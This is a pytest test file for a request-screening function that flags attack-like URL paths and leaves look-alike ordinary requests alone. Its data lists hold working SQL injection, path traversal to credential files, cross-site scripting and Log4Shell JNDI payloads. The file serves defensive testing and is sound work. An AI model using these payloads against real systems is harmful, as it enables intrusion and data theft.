"""Suspicious patterns: what is found, and what must not be."""

import csv
import gzip
import re
from collections import Counter
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ztcore.text import suspicious

SQL = [
    "/items?id=1 union select null,null",
    "/items?id=1+UNION+ALL+SELECT+1,2,3",
    "/items?id=-1%20UnIoN%20DiStInCt%20SeLeCt%20password%20from%20users",
    "/items?id=1/**/union/**/select/**/version()",
    "/items?id=1/*!50000union*//*!50000select*/1,2",
    "/items?id=(1)union(select(password)from(users))",
    "/items?id=1e0union select 1",
    "/items?id=1%0Aunion%0Aselect%0A1",
    "/items?id=1%2527%2520or%25201%253D1",
    "/items/1 or 1=1",
    "/items?id=1 OR 1=1--",
    "/items?id=1%20and%201%3D2",
    "/login?user=admin' or '1'='1",
    "/login?user=admin%27%20OR%20%271%27%3D%271%27%20--%20",
    '/login?user=" or ""="',
    "/login?user=') or ('a'='a",
    "/login?user=x' || '1'='1",
    "/login?user=' or true--",
    "/login?user=' or 1 -- -",
    "/login?user=admin'--",
    "/login?user=admin' -- ",
    "/login?user=admin'%23",
    "/login?user=admin');--",
    "/items?name=x' and name like '%",
    "/items?id=1;drop table users",
    "/items?id=1%3B%20DROP%20TABLE%20users--",
    "/items?id=1';delete from users where 'a'='a",
    "/items?id=1;insert into users values(1)",
    "/items?id=1;update users set admin=1",
    "/items?id=1;exec xp_cmdshell 'dir'",
    "/items?id=1;shutdown--",
    "/items?id=1;waitfor delay '0:0:5'",
    "/items?id=1;declare @a int",
    "/items?id=1 and sleep(5)",
    "/items?id=if(1=1,sleep(5),0)",
    "/items?id=pg_sleep(10)",
    "/items?id=benchmark(5000000,md5(1))",
    "/items?id=1 and (select count(*) from users)>0",
    "/items?id=1 or exists(select 1)",
    "/items?id=1 order by 10--",
    "/items?id=1 having 1=1",
    "/items?t=information_schema.tables&x='",
    "/items?id=extractvalue(1,concat(0x7e,version()))",
    "/items?id=1 and updatexml(1,0x7e,1)",
    "/items?id=x' group by group_concat(name)",
    "/items?id=load_file('/x')",
    "/items?id=1 into outfile '/tmp/x'",
]
TRAVERSAL = [
    "/../../etc/hosts",
    "/files/../secret",
    "/files?name=../secret",
    "/files?name=..\\..\\secret",
    "/files?name=%2e%2e%2fsecret",
    "/files?name=..%2f..%2fsecret",
    "/files/%2e%2e/secret",
    "/files/%252e%252e%252fsecret",
    "/files?name=..%5c..%5cwindows",
    "/files?name=%c0%ae%c0%ae/secret",
    "/files?name=..%c0%afsecret",
    "/static../secret",
    "/app/..;/manager/html",
    "/files/..",
    "/files?name=/etc/passwd",
    "/files?name=%2Fetc%2Fshadow",
    "/etc/passwd",
    "/files?name=c:\\windows\\win.ini",
    "/files?name=file:///proc/self/environ",
    "/files?name=secret%00.png",
    "/files/secret%2500.png",
]
SCRIPT = [
    "/search?q=<script>alert(1)</script>",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=%253Cscript%253E",
    "/search?q=<ScRiPt src=//x>",
    '/search?q="><script>',
    "/<script>alert(1)</script>",
    "/search?q=<img src=x onerror=alert(1)>",
    "/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    "/search?q=<svg/onload=alert(1)>",
    "/search?q=<body onload = alert(1)>",
    '/search?q=" onfocus=alert(1) autofocus="',
    "/search?q=<iframe src=//x>",
    "/go?to=javascript:alert(1)",
    "/go?to=JavaScript:alert`1`",
    "/go?to=javascript%3Adocument.location%3D'x'",
    "/go?to=vbscript:msgbox(1)",
]
JNDI = [
    "/?x=${jndi:ldap://x/a}",
    "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
    "/?x=${${lower:j}ndi:ldap://x/a}",
    "/?x=${lower:j}",
    "/?x=${${::-j}${::-n}di:rmi://x}",
    "/?x=${${env:NOTHING:-j}ndi:ldap://x}",
    "/${jndi:dns://x}",
]
BENIGN = """
/
/api/v1/users
/api/v1/users/42/orders?page=2&per_page=50
/users/{id}
/users/<int:id>/files/<path:name>
/users/:id
/search?q=O'Brien
/search?q=O%27Brien+and+sons
/search?q=l%27union+select
/search?name=D'Angelo&city=L'Aquila
/search?q=rock+'n'+roll
/search?q="exact+phrase"+or+"another+one"
/search?q=%22to+be%22+or+%22not+to+be%22
/search?q=boys'+--+a+story
/search?q='quoted'+--+dash
/stations/union-station
/search?q=union+station
/search?q=credit+union+select+checking
/search?q=european+union
/form?select=all
/form?select=id,name&where=active
/form?union=1&select=2
/rows?$select=id,name&$filter=price+gt+5+and+name+eq+'x'
/rows?$filter=startswith(name,'A')+or+year+eq+2019
/rows?select=*&order=id.desc&id=eq.5
/services/data/v52.0/query?q=SELECT+Id,Name+FROM+Account+WHERE+Name='Acme'
/jql?jql=project+=+X+and+status+=+'Done'
/cql?cql=type='page'+and+space='TEAM'
/logs?filter=severity>=ERROR+AND+resource.type="gce_instance"
/shipping/drop-off
/search?q=drop+table+lamp
/search?q=update+my+kitchen+set
/search?q=delete+from+cart
/search?q=insert+coin
/search?q=create+user+account
/search?q=order+by+phone
/search?q=where+to+buy
/search?q=having+fun
/search?q=sleep+better
/search?q=sleep+(film)
/search?q=benchmark+results
/search?q=and+1
/search?q=black+and+white
/search?q=2+or+3+bedrooms
/search?q=this+or+that&x=1
/search?q=1+or+2=3x
/search?or=1&and=1
/search?a=1&&b=2
/search?q=a||b
/scripts/app.js
/static/script/main.js
/javascript/tutorial
/search?q=JavaScript:+The+Good+Parts
/search?q=javascript
/script
/manuscript/42
/search?q=a+<+b+and+c+>+d
/search?q=x<y
/search?q=price<100
/search?q=i+<3+you
/search?onerror=ignore&onload=true
/search?q=turn+on+load=5
/search?online=true&once=1&only=2
/search?q=%3Cb%3Ebold%3C/b%3E
/search?q=AT%26T
/search?q=100%25
/search?q=50%25+off
/search?q=50%+off
/search?q=c%2B%2B
/search?q=c++
/search?q=a%20b%20c
/search?q=%E4%BD%A0%E5%A5%BD
/search?q=caf%C3%A9
/search?q=wait...
/search?q=and+so+on.../x
/v1/range/1..10
/compare/v1.0...v1.1
/compare/main..feature
/compare/v1.0../x
/files/report..final.pdf
/.well-known/openid-configuration
/.git
/docs/etc/passwords.html
/windows/winning
/api/charge?metadata={"order":"42","tags":["a","b"],"note":"it's"}
/api/charge?metadata=%7B%22order%22%3A%2242%22%2C%22note%22%3A%22it%27s+fine%22%7D
/api/events?where={"age":{"$gt":21}}
/graphql?query={user(id:42){name,posts(first:10){title}}}
/graphql?query=query($id:ID!){user(id:$id){name}}
/template/${id}
/template/$%7BuserId%7D/x
/template/${user.name}
/price?currency=$&amount=5
/img?data=data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==
/token/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk
/auth?state=a--b&nonce=c--d
/slug/a--b
/slug/rock--paper--scissors
/auth?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fa%3D1%26b%3D2
/auth?redirect_uri=https://app.example.com/callback
/auth?scope=openid+profile+email
/auth/callback?code=4%2F0AX4XfWh-abc_DEF&state=xyz
/report?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59%2B02:00
/report?from=2024-01-01&to=2024-01-31
/report?range=(1,5)
/report?ids=1,2,3;4,5
/report;jsessionid=1A2B3C4D5E6F
/cart;v=1/items
/geo?bbox=-71.1,42.3,-70.9,42.4&zoom=12
/geo/48.137154,11.576124
/mail?to=ann@example.com&cc="Bob"+<bob@example.com>
/mail?q=from:ann+subject:"hello"
/path/src/**/test/*.java
/path?glob=src/**/*.py&exclude=*/build/*
/path?regex=^[a-z]+$
/path?regex=(foo|bar)+\\d{3}
/math?expr=2*(3+4)/5
/math?expr=1=1
/emoji/%F0%9F%98%80
/wiki/Select_(SQL)
/wiki/Union_(set_theory)
/wiki/C++
/wiki/Sleep_(disambiguation)
/wiki/Robert';_comma
/books?title=Who's+afraid?
/books?title=Alice+and+'Bob'
/books?title=The+"best"+of+1999;+volume+2
/books?author=O'Neil;+select+works
/x?q=1;2;3
/x?y='a'
/x?y=''
/x?y="a"&z="b"
/x?q=#fragment
/x?utm_source=news&utm_campaign=spring_sale--2024
/x?comment=see+--+below
/x?comment=first+--+second
/x?comment=it's+--+well
/x?comment=don't+drop+tables
/x?q=char+limit
/x?q=true+or+false
/x?q=set+theory+and+(select+topics)
""".strip().splitlines()


def encodings(text):
    """The same request as clients may write it."""
    if "%" in text:
        return {text}
    head, mark, query = text.partition("?")
    return {
        text,
        text.upper(),
        quote(head) + mark + quote_plus(query, safe="&+="),
        quote(quote(text, safe="/?&=+"), safe="/?&=+"),
    }


@pytest.mark.parametrize("text", SQL + TRAVERSAL + SCRIPT + JNDI)
def test_attacks_are_found(text):
    """An attack is found as it is, percent-encoded once or twice, and in any case."""
    missed = [variant for variant in encodings(text) if not suspicious(variant.encode())]
    assert missed == []


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_requests_are_not(text):
    """Names, prose, filters, JSON, dates and tokens that look a little like attacks are left alone."""
    assert not suspicious(text.encode())


def test_enough_ordinary_requests():
    """The list of ordinary requests is long enough to mean something."""
    assert len(set(BENIGN)) >= 100


@pytest.mark.parametrize("text", SQL + TRAVERSAL + SCRIPT + JNDI)
def test_prefixes_and_padding(text):
    """What stands before an attack in the query does not hide it."""
    padded = "/x?note=it%20is%20fine&" + "a=1&" * 50 + text.partition("?")[2] if "?" in text else text
    assert suspicious(padded.encode())


def test_only_the_first_bytes_count():
    """Beyond 4 KiB nothing is looked at, so that the cost of a request is bounded."""
    attack = b"<script>alert(1)</script>"
    assert suspicious(b"/x?q=" + b"a" * 4000 + attack)
    assert not suspicious(b"/x?q=" + b"a" * 4096 + attack)


@pytest.mark.parametrize(
    "piece", [b"/*", b"*/", b"${", b"<a ", b"' or ", b"union select ", b"javascript:", b"..", b"%25", b"(", b"'", b"on"]
)
def test_repetition_is_harmless(piece):
    """A pattern's beginning, repeated up to the end, neither crashes nor takes long."""
    for size in (0, 1, 4095, 4096, 4097, 10_000):
        suspicious((b"/?q=" + piece * (size // len(piece) + 1))[:size])


@given(st.binary(max_size=300))
@example(b"%")
@example(b"%2")
@example(b"\xc0")
@example(b"/*!")
@example(b"${")
@example(b"'")
def test_any_bytes(text):
    """Any bytes can be looked at, and plain letters in front change nothing that was found."""
    found = suspicious(text)
    if found and b"?" not in text:
        assert suspicious(b"/a?b=" + text)


@given(st.text(alphabet=st.characters(categories=["L", "N"]), max_size=100))
def test_letters_and_digits_are_never_suspicious(text):
    """Without punctuation or blanks nothing is suspicious."""
    assert not suspicious(b"/x?q=" + text.encode())


def test_real_web_log(traffic):
    """Not one request of a real log of 10,000 is taken for an attack."""
    with gzip.open(traffic("elastic-apache/apache_logs.gz")) as lines:
        paths = [match[1] for line in lines if (match := re.search(rb'"\S+ (.*?) HTTP/', line))]
    assert len(paths) == 10_000
    assert Counter(path for path in paths if suspicious(path)) == {}


def test_real_paths(traffic):
    """Not one of 30,969 real paths is taken for an attack."""
    with gzip.open(traffic("nasa-http-day/nasa_19950801.tsv.gz"), "rt", encoding="latin-1") as lines:
        paths = [row["url"] for row in csv.DictReader(lines, delimiter="\t", quoting=csv.QUOTE_NONE)]
    assert len(paths) == 30_969
    assert Counter(path for path in paths if suspicious(path.encode("latin-1"))) == {}
